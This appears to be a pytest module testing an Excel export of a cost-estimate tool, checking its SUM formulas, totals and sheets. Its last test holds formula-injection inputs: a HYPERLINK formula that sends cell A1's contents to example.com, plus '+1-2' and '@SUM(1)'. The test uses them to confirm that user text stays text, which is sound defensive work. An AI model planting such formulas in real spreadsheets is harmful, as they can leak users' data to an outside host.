"""The spreadsheet export: real formulas that reproduce the engine's totals, text kept as text."""

from __future__ import annotations

import dataclasses
import math
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils import column_index_from_string, get_column_letter

from .conftest import Examples

SHEETS = ["Summary", "Drivers", "Crossover", "Sensitivity", "Task fit", "Inputs", "Sources"]


class Formulas:
    """Evaluates the small formula language the export writes (enough to check its sums)."""

    _REF = re.compile(r"(?:'([^']+)'!)?\$?([A-Z]{1,3})\$?(\d+)(?::\$?([A-Z]{1,3})\$?(\d+))?")

    def __init__(self, wb: Any) -> None:
        self.wb = wb
        self.names = {}
        for name, defined in wb.defined_names.items():
            sheet, ref = defined.attr_text.split("!")
            self.names[name] = (sheet, ref.replace("$", ""))
        self.cache: dict[tuple[str, str], float] = {}

    def cell(self, sheet: str, ref: str) -> float:
        key = (sheet, ref)
        if key not in self.cache:
            value = self.wb[sheet][ref].value
            if isinstance(value, str) and value.startswith("="):
                value = self.formula(sheet, value[1:])
            self.cache[key] = float(value or 0)
        return self.cache[key]

    def formula(self, sheet: str, text: str) -> float:
        def ref(m: re.Match[str]) -> str:
            target = m.group(1) or sheet
            if m.group(4):
                c0, c1 = column_index_from_string(m.group(2)), column_index_from_string(m.group(4))
                r0, r1 = int(m.group(3)), int(m.group(5))
                cells = [
                    f"C({target!r}, '{get_column_letter(c)}{r}')"
                    for c in range(c0, c1 + 1)
                    for r in range(r0, r1 + 1)
                ]
                return "[" + ", ".join(cells) + "]"
            return f"C({target!r}, '{m.group(2)}{m.group(3)}')"

        code = self._REF.sub(ref, text)
        for name, (target, cell) in self.names.items():
            code = re.sub(rf"\b{name}\b", f"C({target!r}, {cell!r})", code)
        code = code.replace("^", "**").replace("IF(", "IF_(")
        env = {
            "C": self.cell,
            "SUM": lambda *a: sum(sum(x) if isinstance(x, list) else x for x in a),
            "MIN": min,
            "MAX": max,
            "IF_": lambda c, a, b: a if c else b,
        }
        return float(eval(code, env))  # our own formulas, checked here


@pytest.fixture(scope="module")
def workbook(examples: Examples, tmp_path_factory: pytest.TempPathFactory) -> tuple[Any, Any, Path]:
    from advisor.report import write_xlsx

    scenario, ev = examples.scenario_and_evaluation("online-retailer-chatbot")
    path = write_xlsx(ev, scenario, tmp_path_factory.mktemp("xlsx") / "results.xlsx")
    return openpyxl.load_workbook(path), ev, path


def test_workbook_has_inputs_options_crossover_and_sources(workbook: tuple[Any, Any, Path]) -> None:
    wb, ev, _ = workbook
    for name in SHEETS:
        assert name in wb.sheetnames
    assert [n for n in wb.sheetnames if n.startswith("Option ")] == [
        f"Option {i}" for i in range(1, len(ev.options) + 1)
    ]
    sources = {row[1] for row in wb["Sources"].iter_rows(values_only=True)}
    assert all(src in sources for _, src, _ in ev.sources)
    inputs = list(wb["Inputs"].iter_rows(values_only=True))
    assumed = [r for r in inputs if r and r[2] == "ASSUMPTION"]
    assert len(assumed) == sum(1 for i in ev.inputs if i.basis == "assumption")
    crossover = wb["Crossover"]
    assert crossover.max_row >= len(ev.crossover.monthly_tokens) + 3


def test_totals_are_sum_formulas(workbook: tuple[Any, Any, Path]) -> None:
    wb, ev, _ = workbook
    ws = wb["Option 1"]
    total_col = get_column_letter(4 + ev.horizon_months + 1)
    totals = [c.value for c in ws[total_col] if isinstance(c.value, str)]
    # Header, one SUM per cost line and the grand total, then the check against the engine.
    assert totals[0] == "Total" and totals[-1].startswith("=")
    assert len(totals) == len(ev.options[0].parts) + 3
    assert all(v.startswith("=SUM(") for v in totals[1:-1])
    summary = wb["Summary"]
    links = [c.value for c in summary["G"] if isinstance(c.value, str) and c.value.startswith("=")]
    assert len(links) == len(ev.options)
    assert all(re.fullmatch(r"='Option \d+'!\$[A-Z]+\$\d+", v) for v in links)


def test_the_formulas_reproduce_the_engines_horizon_totals(workbook: tuple[Any, Any, Path]) -> None:
    wb, ev, _ = workbook
    calc = Formulas(wb)
    summary = wb["Summary"]
    rows = [c.row for c in summary["G"] if isinstance(c.value, str) and c.value.startswith("=")]
    for row, option in zip(rows, ev.options, strict=True):
        value = calc.cell("Summary", f"G{row}")
        assert value == pytest.approx(
            float(option.horizon_cost_undiscounted_usd), abs=0.05 * ev.horizon_months
        )


def test_changing_a_driver_changes_the_totals(workbook: tuple[Any, Any, Path]) -> None:
    wb, _, _ = workbook
    first = next(c.row for c in wb["Summary"]["G"] if str(c.value).startswith("='Option 1'"))
    before = Formulas(wb).cell("Summary", f"G{first}")
    growth = next(r for r in range(1, 12) if wb["Drivers"][f"C{r}"].value == "growth")
    wb["Drivers"][f"B{growth}"].value = 0.10
    after = Formulas(wb).cell("Summary", f"G{first}")
    assert after > before and math.isfinite(after)


def test_user_text_stays_text_in_the_workbook(examples: Examples, tmp_path: Path) -> None:
    from advisor.report import write_xlsx

    scenario, ev = examples.scenario_and_evaluation("online-retailer-chatbot")
    evil = '=HYPERLINK("http://example.com/?"&A1,"click")'
    scenario = dataclasses.replace(scenario, name=evil, notes="+1-2", organisation="@SUM(1)")
    ev = dataclasses.replace(ev, scenario_name=evil, organisation="@SUM(1)")
    wb = openpyxl.load_workbook(write_xlsx(ev, scenario, tmp_path / "x.xlsx"))
    values = {c.value: c.data_type for row in wb["Summary"].iter_rows() for c in row if c.value}
    assert values[evil] == "s"
    inputs = {c.value: c.data_type for row in wb["Inputs"].iter_rows() for c in row if c.value}
    assert inputs[evil] == "s" and inputs["+1-2"] == "s"
